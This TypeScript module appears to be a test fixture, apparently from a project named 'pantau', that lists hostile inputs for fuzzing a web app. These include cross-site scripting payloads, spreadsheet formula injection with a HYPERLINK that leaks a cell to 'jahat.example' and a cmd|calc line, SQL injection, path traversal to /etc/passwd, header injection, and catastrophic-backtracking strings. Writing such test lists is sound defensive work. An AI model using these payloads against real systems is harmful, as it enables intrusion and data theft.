/** A page on which one of these runs has set this. */
const MARK = 'pantauAttacked'

/** What runs where a text is taken for markup or a script. */
export const scriptTexts: readonly string[] = [
  `<script>window.${MARK}=1</script>`,
  `"><img src=x onerror="window.${MARK}=1">`,
  `'><svg/onload=window.${MARK}=1>`,
  `</script><script>window.${MARK}=1</script>`,
  `</title><script>window.${MARK}=1</script>`,
  `<!--<script>window.${MARK}=1</script>-->`,
  `javascript:window.${MARK}=1`,
  `{{constructor.constructor('window.${MARK}=1')()}}`,
  '${window.pantauAttacked=1}',
  `]]><script>window.${MARK}=1</script>`,
  `&lt;script&gt;window.${MARK}=1&lt;/script&gt;`,
]

/** What would break a page, lead away from it or load something where a text is taken for markup or style. */
export const layoutTexts: readonly string[] = [
  'W'.repeat(190),
  `https://jahat.example/${'a'.repeat(150)}`,
  'Kopi \u202Eallemuc\u202C Belu',
  '\u202E\u2066Tenun Ikat',
  '</main></body><style>*{display:none}</style>',
  '<a href="https://jahat.example" style="position:fixed;inset:0">klik</a>',
  '<iframe src="https://jahat.example"></iframe>',
  '[klik](javascript:alert(1))',
  'x; background: url(https://jahat.example/a.png)',
  'Z\u0351\u036b\u0353\u036a\u0302\u036b\u033d\u034f\u0334'.repeat(12),
]

/** What spreadsheets take for a formula. */
export const formulaTexts: readonly string[] = [
  `=HYPERLINK("http://jahat.example/?"&A1,"klik")`,
  `+cmd|' /C calc'!A0`,
  '-2+3+cmd|x!A1',
  '@SUM(1+1)*cmd|x!A1',
  '\t=1+1',
  '=1+1',
]

const sqlTexts = [
  "'; drop table person; --",
  "' or '1'='1",
  '1; select pg_sleep(10)',
  '\\',
  "\\'; --",
  '$1',
  '%',
  '_',
  "') union select password from credential --",
  '%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%',
  '|&!():*<->',
]
const pathTexts = [
  '../../../../etc/passwd',
  '..\\..\\var\\auth-secret',
  '%2e%2e%2fauth-secret',
  '/etc/passwd',
  'file:///etc/passwd',
  'a\0.jpg',
  'CON',
]
const brokenTexts = [
  '\0',
  '\uD800',
  '\u202Egpj.exe',
  '\u200B',
  '\uFFFE',
  '\r\nSet-Cookie: pantau.session_token=x',
  '\u{1F600}'.repeat(60),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  'İıſK',
  'ﷺ'.repeat(40),
]
const namesOfObjects = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf']
/** Long, and nearly what a careless pattern looks for. */
export const patternTexts: readonly string[] = [
  'a'.repeat(5000),
  ' '.repeat(5000),
  `${' '.repeat(2000)}x`,
  `${'1.'.repeat(2000)}!`,
  `${'-'.repeat(3000)}x`,
  `${'a@'.repeat(2000)}!`,
  '('.repeat(2000),
  `http://${'a.'.repeat(1500)}!`,
  `${'0'.repeat(3000)}x`,
  '\n '.repeat(1500),
]

/** Texts that somebody would send to do harm. */
export const hostileTexts: readonly string[] = [
  ...scriptTexts,
  ...formulaTexts,
  ...sqlTexts,
  ...pathTexts,
  ...brokenTexts,
  ...namesOfObjects,
  ...patternTexts,
  '',
  ' ',
]
